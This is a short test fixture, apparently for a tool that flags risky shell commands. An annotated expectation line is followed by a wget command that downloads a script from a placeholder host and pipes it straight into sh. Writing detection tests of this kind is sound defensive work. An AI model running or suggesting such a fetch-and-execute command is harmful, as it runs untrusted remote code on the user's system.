# expect: network@2 remote_code@2
wget -qO- http://example.com/x | tee install.log | sh
